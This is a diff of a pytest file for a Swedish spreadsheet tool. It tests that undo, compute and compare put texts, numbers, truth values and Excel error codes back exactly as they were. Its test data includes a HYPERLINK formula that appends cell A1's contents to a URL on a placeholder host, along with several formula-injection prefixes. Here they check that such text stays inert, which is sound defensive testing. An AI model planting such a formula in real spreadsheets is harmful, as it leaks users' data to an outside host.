@@ -5,6 +5,7 @@ from __future__ import annotations
 import email
 import email.policy
 import inspect
+import json
 import re
 from collections.abc import Mapping
 from decimal import Decimal
@@ -20,18 +21,22 @@ import workbooks as w
 from desk import Desk, formula, picture, shown, store, type_in
 from kalkyl import __version__
 from kalkyl.doors.excel import BOOK, WINDOW
+from kalkyl.doors.excel_errors import error_in
 from kalkyl.doors.excel_marks import NOTE, RULE
-from kalkyl.doors.excel_read import received
+from kalkyl.doors.excel_read import _cells, received
+from kalkyl.doors.excel_write import Formula, contents
 from kalkyl.doors.shared import foreign_layout, read_json
 from kalkyl.doors.xlsx_write import book_bytes
 from kalkyl.excel import buttons
+from kalkyl.excel.cells import InputError, number, word
+from kalkyl.excel.functions import _value
 from kalkyl.excel.press import NOT_FOUND
 from kalkyl.form.fill import fill
 from kalkyl.form.lists import ANSWER, CHANGES, FINDINGS, SECTION, answers, is_list, witness
 from kalkyl.form.receipt import digest, receipt_in
 from kalkyl.job.intake import judge
 from kalkyl.job.templates import workbook
-from kalkyl.model import Cell, Key, Sheet, Value
+from kalkyl.model import Broken, Cell, Key, Sheet, Value
 from kalkyl.rules.catalogue import Expected
 from kalkyl.rules.register import VERSION
 
@@ -712,6 +717,148 @@ def test_a_computation_that_breaks_is_taken_back(desk: Desk, tmp_path: Path) -> 
     assert picture(opened) == before
     buttons.undo_compute()
     assert desk.said == "Det finns ingen beräkning att ångra i den här arbetsboken."
+
+
+LINK = '=HYPERLINK("http://x.test/?"&A1,"x")'
+SIGNS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "'=1+1", "''x", "12", "-12", "1e5", "2021-02-03", "1-3")
+WORDS = ("TRUE", "FALSKT", "#N/A", "en text")
+
+
+def put_text(path: Path, place: str, text: str, number_format: str = "General") -> None:
+    """A text in a cell as a file has it, whatever it looks like."""
+    spot = w.at(place)
+    with b.edited(path) as made:
+        cell = made[spot.sheet].cell(spot.row, spot.column)
+        cell.value, cell.data_type, cell.number_format = text, "s", number_format
+
+
+@pytest.mark.parametrize(
+    ("text", "number_format"),
+    [
+        *((text, "General") for text in (LINK, *SIGNS, *WORDS)),
+        (LINK, "@"),
+        ("12", "@"),
+        ("-1", "0.0"),
+    ],
+)
+def test_undo_puts_a_text_back_as_a_text(
+    desk: Desk, tmp_path: Path, text: str, number_format: str
+) -> None:
+    path = b.shipped(tmp_path)
+    put_text(path, TOTAL_CELL, text, number_format)
+    book = desk.open(path)
+    assert contents(book, [w.at(TOTAL_CELL)]) == {w.at(TOTAL_CELL): text}
+    before = picture(book)
+    buttons.compute()
+    assert isinstance(contents(book, [w.at(TOTAL_CELL)])[w.at(TOTAL_CELL)], Formula)
+    buttons.undo_compute()
+    assert contents(book, [w.at(TOTAL_CELL)]) == {w.at(TOTAL_CELL): text}
+    assert picture(book) == before
+    shown_as = book.sheets["Prognos"].range("B14").number_format
+    assert shown_as.casefold() == number_format.casefold()
+    saved = tmp_path / "sparad.xlsx"
+    store(book).store.call("save_copy", str(saved))
+    cell = w.cell(b.book(saved), TOTAL_CELL)
+    assert (cell.value, cell.formula) == (text, None)
+
+
+@pytest.mark.parametrize(
+    ("value", "number_format"),
+    [
+        (5.0, "General"),
+        (5.0, "@"),
+        (-0.1, "0.00"),
+        (44197.75, "yyyy-mm-dd"),
+        (1234567.1234567, "0"),
+    ],
+)
+def test_undo_puts_a_number_back_as_it_was(
+    desk: Desk, tmp_path: Path, value: float, number_format: str
+) -> None:
+    path = b.shipped(tmp_path)
+    with b.edited(path) as made:
+        cell = b.sheet_of(made, "Prognos")["B14"]
+        cell.value, cell.number_format = value, number_format
+    book = desk.open(path)
+    buttons.compute()
+    assert formula(book, TOTAL_CELL).startswith("=")
+    buttons.undo_compute()
+    found = contents(book, [w.at(TOTAL_CELL)])[w.at(TOTAL_CELL)]
+    assert type(found) is float
+    assert found == value
+    shown_as = book.sheets["Prognos"].range("B14").number_format
+    assert shown_as.casefold() == number_format.casefold()
+
+
+@pytest.mark.parametrize("desk", ["openpyxl"], indirect=True)
+@pytest.mark.parametrize("value", [True, False, "#N/A", "#DIV/0!"])
+def test_undo_puts_a_truth_value_or_an_error_back(
+    desk: Desk, tmp_path: Path, value: object
+) -> None:
+    path = b.shipped(tmp_path)
+    with b.edited(path) as made:
+        b.sheet_of(made, "Prognos")["B14"] = value
+    book = desk.open(path)
+    before = picture(book)
+    buttons.compute()
+    buttons.undo_compute()
+    assert picture(book) == before
+
+
+@pytest.mark.parametrize("text", [LINK, "12", "'x"])
+def test_a_computation_that_breaks_leaves_texts_as_they_were(
+    desk: Desk, tmp_path: Path, text: str
+) -> None:
+    path = b.shipped(tmp_path)
+    put_text(path, TOTAL_CELL, text)
+    put_text(path, "Prognos!C14", text)
+    book = desk.open(path)
+    before = picture(book)
+    with store(book).breaking("set_formulas", after=1):
+        buttons.compute()
+    assert "Arbetsboken är som den var" in desk.said
+    assert picture(book) == before
+    assert contents(book, [w.at(TOTAL_CELL)]) == {w.at(TOTAL_CELL): text}
+
+
+def test_undo_kept_by_an_earlier_version_is_not_used(desk: Desk, book: xw.Book) -> None:
+    type_in(book, TOTAL_CELL, -1.0)
+    buttons.compute()
+    [kept] = (desk.home / "state" / "kalkyl" / "angra").iterdir()
+    kept.write_text(json.dumps([["Prognos", 14, 2, LINK, formula(book, TOTAL_CELL)]]))
+    before = picture(book)
+    buttons.undo_compute()
+    assert desk.said == "Det finns ingen beräkning att ångra i den här arbetsboken."
+    assert picture(book) == before
+
+
+@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "12"])
+def test_the_lists_of_the_buttons_hold_texts_as_texts(
+    desk: Desk, tmp_path: Path, text: str
+) -> None:
+    path = b.shipped(tmp_path)
+    put_text(path, "Prognos!K10", text)
+    book = desk.open(path)
+    desk.app.chosen = [str(b.shipped(tmp_path / "förra"))]
+    buttons.compare()
+    rows = book.sheets["Jämförelse"].used_range.formula
+    assert text in {row[4] for row in rows}
+
+
+def test_every_error_of_excels_is_an_error_known_or_not() -> None:
+    known = {2042: "#N/A", 2045: "#SPILL!", 2049: "#FIELD!", 2050: "#CALC!", 2051: "#BUSY!"}
+    for code in range(2000, 2100):
+        found = error_in(code - 2146828288)
+        assert found == Broken(known[code]) if code in known else found is not None
+        [(_, cell)] = _cells((10, 2), [[code - 2146828288]], [["=SEQUENCE(3)"]])
+        assert isinstance(cell.value, Broken)
+        with pytest.raises(InputError, match="Fel i underlaget: #"):
+            number(code - 2146828288)
+        with pytest.raises(InputError, match="Fel i underlaget: #"):
+            word(code - 2146828288)
+        assert isinstance(_value(code - 2146828288), Broken)
+    for amount in (-2146826243.0, -2146828289, -2146762752, 0, True, None, "x"):
+        assert error_in(amount) is None
 
 
 # Jämför
